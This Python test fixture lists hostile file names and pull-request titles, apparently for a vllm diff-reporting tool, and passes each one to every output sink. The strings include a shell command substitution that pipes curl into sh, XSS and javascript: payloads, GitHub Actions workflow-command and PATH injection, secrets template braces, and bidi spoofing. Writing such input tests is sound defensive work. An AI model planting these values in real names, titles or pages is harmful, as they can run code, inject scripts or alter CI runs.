"""Names and titles that a pull request may bring in order to be obeyed somewhere. Every sink is shown all of them."""

from __future__ import annotations

import pytest

HOSTILE: dict[str, str] = {
    "a line feed": "vllm/a\n::error::b.py",
    "an escape sequence": "vllm/\x1b]0;owned\x07\x1b[2J.py",
    "a C1 control": "vllm/\x9b31m.py",
    "a command substitution": "vllm/$(curl evil|sh)`id`.py",
    "an option": "--config=pwn.cjs",
    "a team": "vllm/@vllm-project/maintainers.py",
    "an issue": "vllm/#1 GH-2 fixes #3.py",
    "a link": "vllm/x](javascript:alert(1)).py",
    "a reference link": "[x]: javascript:alert(1)",
    "backticks": "vllm/```` ``` `` `.py",
    "an image": "![x](https://evil.example/beacon.png)",
    "HTML": "</details><img src=x onerror=alert(1)><script>alert(1)</script>\"'",
    "a comment": "<!-- diffscope:comment -->",
    "the end of a comment": "--><b>x</b><!--",
    "a table": "a|b|c\\|d",
    "right to left": "vllm/\u202egnp.exe\u2066.py",
    "invisible": "vllm/\u200b\ufeff\u2060\U000e0041.py",
    "four kilobytes": "vllm/" + "x/" * 2040 + "y.py",
    "a workflow command": "::set-output name=x::y",
    "an old workflow command": "x ##[set-env name=PATH]/tmp",
    "an end of a heredoc": "EOF\nPATH=/tmp",
    "Mermaid": 'vllm/"]; click n0 "javascript:alert(1)" %%{init: {}}%% end',
    "a formula": "$\\href{javascript:alert(1)}{x}$",
    "a bare address": "https://evil.example www.evil.example mailto:a@evil.example",
    "half a character": "vllm/\ud800.py",
    "percent": "%0A%0D%25::error::",
    "braces": "{path} {0} {{ config }} {% raw %} ${{ secrets.X }}",
}

HOSTILE_TEXTS = [pytest.param(text, id=name) for name, text in HOSTILE.items()]
